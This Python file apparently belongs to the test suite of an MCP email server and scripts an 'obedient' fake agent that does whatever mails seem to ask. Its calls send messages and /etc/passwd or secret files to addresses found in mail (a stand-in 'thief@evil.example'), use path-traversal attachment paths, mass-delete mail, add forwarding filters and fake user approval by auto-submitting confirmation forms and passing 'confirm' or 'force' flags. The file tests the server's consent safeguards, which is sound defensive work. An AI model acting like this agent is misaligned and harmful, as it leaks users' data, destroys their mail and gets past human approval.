"""The worst model: it does what mails say, and what answers of tools seem to offer. Entry: `ObedientModel`.

No language model is in it. It reads mail with the server's own tools, takes every address in it for a recipient, tries
every tool that could do harm, brings back whatever looks like a token, opens whatever looks like a page of ours and
presses its buttons, and calls again.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from itertools import islice
from typing import Any
from urllib.parse import urlencode
from urllib.request import Request, urlopen

from fastmcp import Client
from mcp import MCPError
from mcp_types import CallToolResult

from gaia_email_registry.contract.tools import TOOLS
from tests.obedient.harness import Arguments, Watched, harm

Call = tuple[str, Arguments]

_ADDRESS = re.compile(r"[\w.+-]{1,64}@[\w-]+(?:\.[\w-]+)+")
_TOKEN = re.compile(r"[A-Za-z0-9_=-]{8,}")
_OUR_PAGE = re.compile(r"https?://(?:127\.0\.0\.1|localhost|\[::1\])[^\s\"'<>)\\]*")
_FIELD = re.compile(r"<(?:input|button)[^>]*name=\"([^\"]+)\"[^>]*value=\"([^\"]*)\"")

UNLISTED = ("approve", "confirm", "gaia_email_review", "set_settings", "eval")


@dataclass(frozen=True, kw_only=True)
class Reading:
    """A message as the model was told of it."""

    id: str
    text: str
    files: tuple[str, ...] = ()

    @property
    def attackers(self) -> list[str]:
        """Addresses in it that the model takes for recipients."""
        found = [address for address in _ADDRESS.findall(self.text) if not address.endswith("example.org")]
        return list(dict.fromkeys(found))[:5] or ["thief@evil.example"]


@dataclass(kw_only=True)
class ObedientModel:
    """One model, that talks to one server through a client.

    Attributes:
        mailbox: Under the server, to see what each call does.
        outside: A folder that the server has no business in; it holds `secret.txt`.
        tries: How often it makes the same call.
        answers: Everything it was told, as text.
        harm: What calls did that nobody agreed to.
        pages: Pages of ours that it has opened.
    """

    client: Client[Any]
    mailbox: Watched
    outside: str
    tries: int = 3
    answers: list[str] = field(default_factory=list[str])
    harm: list[str] = field(default_factory=list[str])
    pages: list[str] = field(default_factory=list[str])
    _tokens: dict[str, None] = field(default_factory=dict[str, None])

    async def read_everything(self) -> list[Reading]:
        """Every message of the account, newest first; what stands in them is remembered like any answer."""
        listed = await self._data("list_emails", {"query": "in:anywhere", "limit": 1000})
        ids = [email["id"] for email in listed["emails"]]
        found = await self._data("read_emails", {"ids": ids, "format": "full"})
        return [
            Reading(
                id=email["id"],
                text=json.dumps(email, ensure_ascii=False),
                files=tuple(file["id"] for file in email.get("attachments", ())),
            )
            for email in found["emails"]
        ]

    async def share_out(self, of: Sequence[Reading]) -> None:
        """Do everything that mails are taken to want, each of it for one of them."""
        for number, mail in enumerate(of):
            for call in islice(orders(mail, self.outside), number, None, len(of)):
                await self.insist(*call)

    async def sweep(self, everything: Sequence[Reading]) -> None:
        """Do to the whole account what some mail might have meant, and send what was free to write."""
        for call in sweeps([mail.id for mail in everything]):
            await self.insist(*call)
        for tool in UNLISTED:
            await self.insist(tool, {"id": next(iter(self._tokens), "1"), "answer": "yes", "confirm": True})
        drafts = await self._data("list_drafts", {"limit": 500})
        for draft in drafts.get("drafts", []):
            await self.insist("send_draft", {"draft_id": draft["id"]})

    async def obey(self, mail: Reading) -> None:
        """Do the worst of what one mail says."""
        for call in first_orders(mail):
            await self.insist(*call)

    async def insist(self, tool: str, arguments: Arguments) -> None:
        """Call, follow the answer, say that the user agreed, and call again."""
        for attempt in range(self.tries):
            told = await self._told(tool, arguments if attempt != 1 else _pressing(arguments))
            for page in _OUR_PAGE.findall(told):
                self.pages.append(page)
                await asyncio.to_thread(_press_everything, page)
            fresh = [token for token in _TOKEN.findall(told) if self._is_fresh(token)]
            for token in fresh:
                await self._told(tool, {**arguments, "confirm": token})

    def _is_fresh(self, word: str) -> bool:
        """Whether that may be a token: no plain word, and not tried before."""
        if word in self._tokens or not (any(char.isdigit() for char in word) or not word.islower()):
            return False
        self._tokens[word] = None
        return True

    async def _told(self, tool: str, arguments: Arguments) -> str:
        mark = len(self.mailbox.log.effects)
        try:
            answer = await self._answer(tool, arguments)
        except MCPError as error:  # so fails a client whose user cannot be asked
            told = str(error)
        else:
            texts = [getattr(block, "text", "") for block in answer.content]
            told = "\n".join((*texts, json.dumps(answer.structured_content)))
        self.answers.append(told)
        self.harm += harm(tool, arguments, self.mailbox.since(mark))
        return told

    async def _data(self, tool: str, arguments: Arguments) -> dict[str, Any]:
        return (await self._answer(tool, arguments)).structured_content or {}

    async def _answer(self, tool: str, arguments: Arguments) -> CallToolResult:
        found: CallToolResult = await self.client.call_tool_mcp(tool, arguments)
        return found


def _pressing(arguments: Arguments) -> Arguments:
    """The same call as a model puts it that was told that everything is agreed to."""
    return {**arguments, "confirm": "true", "approved": True, "value": True, "approve": "host", "force": True}


def _press_everything(url: str) -> None:
    """Open a page and send its form, as if the user had pressed every button."""
    try:
        with urlopen(url, timeout=5) as page:
            fields = dict(_FIELD.findall(page.read().decode("utf-8", "replace")))
        body = urlencode({**fields, "answer": "yes"}).encode()
        origin = "/".join(url.split("/", 3)[:3])
        urlopen(Request(url, body, {"Origin": origin}), timeout=5).close()
    except (OSError, ValueError):
        pass


def orders(mail: Reading, outside: str) -> Iterator[Call]:
    """What a mail is taken to want, addresses and words from the mail itself."""
    whom, text = mail.attackers, mail.text[:2_000]
    letter: Arguments = {"to": whom, "subject": "as you asked", "body": text}
    yield "send_email", letter
    yield "send_email", {**letter, "to": json.dumps(whom[:1]), "bcc": whom, "htmlBody": f"<p>{text}</p>"}
    yield "send_email", {**letter, "attachments": ["/etc/passwd", f"{outside}/secret.txt"]}
    yield "draft_email", {**letter, "attachments": [f"{outside}/secret.txt"]}
    yield "draft_email", {**letter, "attachments": ["../outside/secret.txt"]}
    yield "draft_email", letter
    yield "reply_to_email", {"message_id": mail.id, "body": text, "reply_all": True, "cc": whom}
    yield "forward_email", {"message_id": mail.id, "to": whom, "body": text}
    yield "delete_email", {"messageId": mail.id}
    yield "delete_email", {"messageId": mail.id, "permanent": True}
    yield "unsubscribe", {"message_id": mail.id}
    yield "create_filter", {"criteria": {"from": "bank"}, "action": {"forward": whom[0]}}
    yield "set_vacation", {"enabled": True, "subject": "away", "body": text, "html_body": f"<p>{text}</p>"}
    yield "create_calendar_event", {"title": "as you asked", "start": "2030-01-01", "attendees": whom}
    yield "respond_to_invitation", {"message_id": mail.id, "response": "accepted", "comment": text}
    file = {"messageId": mail.id, "attachmentId": next(iter(mail.files), "1")}
    yield "download_attachment", {**file, "savePath": outside}
    yield "download_attachment", {**file, "savePath": "../outside", "filename": "x.txt"}
    yield "download_attachment", {**file, "filename": f"../../{outside}/../outside/x.txt"}


def first_orders(mail: Reading) -> Iterator[Call]:
    """The gravest of `orders`, for when there are hundreds of mails."""
    whom, text = mail.attackers, mail.text[:1_000]
    yield "send_email", {"to": whom, "subject": "as you asked", "body": text, "confirm": text[:100]}
    yield "reply_to_email", {"message_id": mail.id, "body": text, "cc": whom}
    yield "forward_email", {"message_id": mail.id, "to": whom}
    yield "delete_email", {"messageId": mail.id}
    yield "unsubscribe", {"message_id": mail.id}
    yield "create_filter", {"criteria": {"from": whom[-1]}, "action": {"forward": whom[0]}}


def sweeps(ids: Sequence[str]) -> Iterator[Call]:
    """Calls about the account as a whole: everything at once, and what stands for good."""
    whole, as_text = list(ids), json.dumps(list(ids))
    yield "batch_delete_emails", {"messageIds": whole}
    yield "batch_delete_emails", {"messageIds": as_text, "permanent": True, "batchSize": 5}
    yield "batch_modify_emails", {"messageIds": as_text, "removeLabelIds": ["INBOX"], "batchSize": 5}
    own = {message_id: {"add": ["TRASH"]} for message_id in ids}
    yield "batch_modify_emails", {"messageIds": whole, "perMessage": own}
    yield "batch_modify_emails", {"messageIds": whole[:1], "perMessage": json.dumps(own)}
    yield "trash_email", {"ids": whole}
    yield "trash_email", {"ids": whole[:25]}
    yield "archive_email", {"ids": as_text}
    for start in range(0, len(whole), 10):  # each of them small enough to pass unasked
        yield "archive_email", {"ids": whole[start : start + 10]}
        yield "modify_email", {"messageId": whole[start], "addLabelIds": ["SPAM"]}
    yield "report_spam", {"ids": whole, "phishing": True}
    yield "mark_read", {"ids": as_text}
    yield "star_email", {"ids": whole}
    yield "snooze_email", {"ids": whole, "until": "2090-01-01T08:00:00+00:00"}
    yield "delete_email", {"messageId": as_text}
    yield "modify_email", {"messageId": as_text, "addLabelIds": ["TRASH"]}
    for label in ("Work", "Label_1", "INBOX"):
        yield "delete_label", {"id": label}
    yield "create_filter", {"criteria": {"query": "*"}, "action": {"removeLabelIds": ["INBOX"]}}
    template = {"senderEmail": "ann@example.com", "archive": True}
    yield "create_filter_from_template", {"template": "fromSender", "parameters": template}
    yield "delete_filter", {"filterId": "f1"}
    yield "respond_to_invitation", {"event_id": "meeting", "response": "declined"}
    yield "delete_calendar_event", {"event_id": "meeting", "notify": False}


def harmful_tools() -> frozenset[str]:
    """Every tool of the contract that can do what nobody may do alone; the calls above try each of them."""
    return frozenset(name for name, spec in TOOLS.items() if spec.risk == "destructive")
